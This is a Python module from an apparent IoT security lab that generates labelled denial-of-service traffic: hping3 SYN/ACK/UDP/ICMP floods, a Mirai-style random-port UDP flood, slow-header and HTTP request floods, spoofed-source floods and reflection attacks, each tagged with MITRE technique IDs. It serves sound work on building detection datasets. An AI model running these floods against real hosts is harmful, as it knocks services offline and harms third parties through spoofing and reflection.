"""More than anything needs: floods of packets, connections and requests, with own, forged and borrowed sources.

In: a target inside the lab, a rate and a count. Out: packets by hping3, connections and requests by plain sockets.
Must never: exceed ``count`` packets or connections; a forged source is one of the lab's as well.
Source: hping3's modes; public analyses of Mirai's UDP floods to drawn ports and of slow-header attacks.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable, Coroutine
from typing import Any, Final, Literal, TypeAlias

from thingwarden.domain.taxonomy import AttackClass
from thingwarden.lab.behaviour.act import ActKind, ActSettings
from thingwarden.lab.behaviour.attacks import breadth
from thingwarden.lab.behaviour.attacks.pacing import LONGEST_PROGRAM_S, Crowd, Rhythm
from thingwarden.lab.behaviour.protocol import http
from thingwarden.lab.behaviour.protocol.buffered import Buffered
from thingwarden.lab.directory import SERVICES
from thingwarden.lab.prefix import SPOOFED
from thingwarden.lab.timeline import Aim
from thingwarden.lab.tool import PacketFlood
from thingwarden.lab.world import Stream, World

ICMP: Final = 1
TCP: Final = 6
UDP: Final = 17
_PROTO: Final = {"syn": TCP, "ack": TCP, "udp": UDP, "icmp": ICMP}

PacketKind: TypeAlias = Literal["syn", "ack", "udp", "icmp"]


class FloodSettings(ActSettings):
    """Packets of one kind to each target in turn.

    Attributes:
        port: of the target; ICMP has none.
        packets_per_s: on average.
        count: packets at most, over all targets.
        payload_bytes: in each.
    """

    port: int = breadth.port(80, 22, 53, 123, 443, 554, 1883, 5060, 8080, 27015)
    packets_per_s: float = breadth.number(500.0, 20.0, 2_000.0)
    count: int = breadth.number(2_000, 100, 20_000)
    payload_bytes: int = breadth.rarely(0, 1, 1_200, likely=0.2)


class PayloadFloodSettings(FloodSettings):
    """As ``FloodSettings``, with content."""

    payload_bytes: int = breadth.number(512, 1, 1_300)


class ForgedFloodSettings(FloodSettings):
    """As ``FloodSettings``, each packet with another source.

    Attributes:
        kind: of packet.
    """

    kind: PacketKind = "syn"


class ReflectionSettings(FloodSettings):
    """Questions whose answers are another host's trouble.

    Attributes:
        targets: the reflectors.
        victim: whose address the questions carry.
    """

    targets: tuple[str, ...] = (SERVICES["reflector.invalid"].address,)
    port: int = breadth.known_port(53, 123, 389, 1900, 11211)
    packets_per_s: float = breadth.number(60.0, 5.0, 400.0)
    count: int = breadth.number(600, 50, 4_000)
    payload_bytes: int = breadth.number(40, 8, 200)
    victim: str = SERVICES["shop.example"].address


async def _flood(
    world: World, settings: FloodSettings, kind: PacketKind, *, source: str = "", forges: bool = False
) -> None:
    share = max(1, len(settings.targets))
    for target in settings.targets:
        await world.use(
            PacketFlood(
                target=target,
                kind=kind,
                port=settings.port,
                packet_count=max(1, settings.count // share),
                packets_per_s=settings.packets_per_s,
                payload_bytes=settings.payload_bytes,
                is_spoofed=forges,
                source=source,
                lasts_s=min(LONGEST_PROGRAM_S, settings.lasts_s / share),
            )
        )


async def flood_spoofed(world: World, settings: ForgedFloodSettings) -> None:
    """Packets that seem to come from everywhere."""
    await _flood(world, settings, settings.kind, forges=True)


async def reflect(world: World, settings: ReflectionSettings) -> None:
    """Questions in the victim's name."""
    await _flood(world, settings, "udp", source=settings.victim)


class PortFloodSettings(ActSettings):
    """Datagrams to drawn ports.

    Attributes:
        first_port, last_port: drawn between them.
        packets_per_s: on average; ``count`` at most.
        payload_bytes: in each.
        new_socket_share: how often the own port changes.
    """

    first_port: int = breadth.known_port(1, 1024, 20_000)
    last_port: int = breadth.known_port(65535, 30_000, 21_000)
    packets_per_s: float = breadth.number(300.0, 20.0, 2_000.0)
    count: int = breadth.number(1_500, 100, 10_000)
    payload_bytes: int = breadth.number(512, 1, 1_300)
    new_socket_share: float = breadth.one_of(0.0, 0.01, 1.0)


async def flood_udp_ports(world: World, settings: PortFloodSettings) -> None:
    """Mirai's plain UDP flood."""
    rng = world.rng
    rhythm = Rhythm(world, 1 / settings.packets_per_s, lasts_s=settings.lasts_s, count=settings.count, jitter=1.0)
    is_v6 = any(":" in target for target in settings.targets)
    socket = await world.open_datagrams(is_v6=is_v6)
    while await rhythm.beat():
        if rng.random() < settings.new_socket_share:
            socket.close()
            socket = await world.open_datagrams(is_v6=is_v6)
        with contextlib.suppress(OSError):
            port = rng.randint(settings.first_port, settings.last_port)
            await socket.send(rng.choice(settings.targets), port, http.filler(settings.payload_bytes))
    socket.close()


class ConnectionFloodSettings(ActSettings):
    """Whole connections.

    Attributes:
        port: of the target.
        per_s: on average; ``count`` at most.
        manner: ``reset`` and ``close`` leave at once, ``hold`` stays and says nothing, ``drip`` stays and sends a
            header a byte or so at a time.
        hold_s: how long those stay.
        patience_s: waited for a connection.
    """

    port: int = breadth.known_port(80, 22, 23, 443, 554, 1883, 8080)
    per_s: float = breadth.number(40.0, 2.0, 500.0)
    count: int = breadth.number(600, 40, 4_000)
    manner: Literal["reset", "close", "hold", "drip"] = "reset"
    hold_s: float = breadth.number(10.0, 1.0, 120.0)
    patience_s: float = breadth.number(3.0, 0.5, 8.0)


class RequestFloodSettings(ConnectionFloodSettings):
    """As ``ConnectionFloodSettings``, with HTTP requests in each.

    Attributes:
        path: asked for.
        requests: per connection.
        header_bytes: of further headers.
    """

    port: int = breadth.known_port(80, 8080)
    path: Literal["/", "/index.html", "/search", "/login"] = "/"
    requests: int = breadth.number(1, 1, 30)
    header_bytes: int = breadth.number(100, 1, 800)


async def flood_connect(world: World, settings: ConnectionFloodSettings) -> None:
    """Connections that mean nothing."""

    async def visit(own: World, stream: Stream) -> None:
        ends_at_s = own.now_s() + (settings.hold_s if settings.manner in ("hold", "drip") else 0.0)
        while (left_s := ends_at_s - own.now_s()) > 0:
            if settings.manner == "drip":
                await stream.send(b"X-a: b\r\n")
            await own.sleep(min(left_s, 1.0 if settings.manner == "drip" else left_s))

    await _swarm(world, settings, visit)


async def flood_http(world: World, settings: RequestFloodSettings) -> None:
    """Requests, many more than a page needs."""

    async def visit(own: World, stream: Stream) -> None:
        source = Buffered(stream)
        manners = http.Manners(agent="Mozilla/5.0", header_bytes=settings.header_bytes)
        for number in range(settings.requests):
            keep = number + 1 < settings.requests
            ask = http.Ask(path=f"{settings.path}?q={own.rng.getrandbits(24):x}")
            await http.send_request(stream, stream.peer[0], ask, manners, keep=keep)
            await http.read_answer(source, settings.patience_s)

    await _swarm(world, settings, visit)


async def _swarm(
    world: World, settings: ConnectionFloodSettings, visit: Callable[[World, Stream], Coroutine[Any, Any, None]]
) -> None:
    """Open connections at the wanted rate, each in a task of its own that ends by ``manner``."""

    async def come(own: World) -> None:
        target = own.rng.choice(settings.targets)
        stream = await own.connect(target, settings.port, timeout_s=settings.patience_s)
        with contextlib.suppress(OSError):
            await visit(own, stream)
        if settings.manner == "reset":
            stream.abort()
        else:
            await stream.close()

    rhythm = Rhythm(world, 1 / settings.per_s, lasts_s=settings.lasts_s, count=settings.count, jitter=1.0)
    crowd = Crowd(world)
    while await rhythm.beat():
        crowd.start(come)
    await crowd.wait(min(rhythm.left_s, settings.patience_s + settings.hold_s))


def _aims(settings: ActSettings, proto: int, *ports: int, source: str = "") -> tuple[Aim, ...]:
    return tuple(Aim(peer=target, proto=proto, ports=ports, source=source) for target in settings.targets)


def _packet_flood(about: str, kind: PacketKind, settings: type[FloodSettings]) -> ActKind[Any]:
    async def run(world: World, chosen: FloodSettings) -> None:
        await _flood(world, chosen, kind)

    return ActKind(
        about=about,
        settings=settings,
        run=run,
        aims=lambda chosen: _aims(chosen, _PROTO[kind], *(() if kind == "icmp" else (chosen.port,))),
        attack_class=AttackClass.DOS,
        technique="T1498.001",
    )


FLOODS: Final[dict[str, ActKind[Any]]] = {
    "flood_syn": _packet_flood("SYN packets by hping3.", "syn", FloodSettings),
    "flood_ack": _packet_flood("ACK packets by hping3.", "ack", FloodSettings),
    "flood_udp": _packet_flood("UDP packets to one port by hping3.", "udp", PayloadFloodSettings),
    "flood_icmp": _packet_flood("Echo requests by hping3.", "icmp", PayloadFloodSettings),
    "flood_udp_ports": ActKind(
        about="UDP packets to drawn ports.",
        settings=PortFloodSettings,
        run=flood_udp_ports,
        aims=lambda settings: _aims(settings, UDP),
        attack_class=AttackClass.DOS,
        technique="T1498.001",
    ),
    "flood_connect": ActKind(
        about="Connections that are reset, closed, held or fed a byte at a time.",
        settings=ConnectionFloodSettings,
        run=flood_connect,
        aims=lambda settings: _aims(settings, TCP, settings.port),
        attack_class=AttackClass.DOS,
        technique="T1499.001",
    ),
    "flood_http": ActKind(
        about="HTTP requests without end.",
        settings=RequestFloodSettings,
        run=flood_http,
        aims=lambda settings: _aims(settings, TCP, settings.port),
        attack_class=AttackClass.DOS,
        technique="T1499.002",
    ),
    "flood_spoofed": ActKind(
        about="Packets of which each claims another source.",
        settings=ForgedFloodSettings,
        run=flood_spoofed,
        aims=lambda settings: _aims(
            settings, _PROTO[settings.kind], *(() if settings.kind == "icmp" else (settings.port,)), source=str(SPOOFED)
        ),
        attack_class=AttackClass.DDOS,
        technique="T1498.001",
    ),
    "reflection": ActKind(
        about="Questions to reflectors in a victim's name.",
        settings=ReflectionSettings,
        run=reflect,
        aims=lambda settings: _aims(settings, UDP, settings.port, source=settings.victim),
        attack_class=AttackClass.DDOS,
        technique="T1498.002",
    ),
}
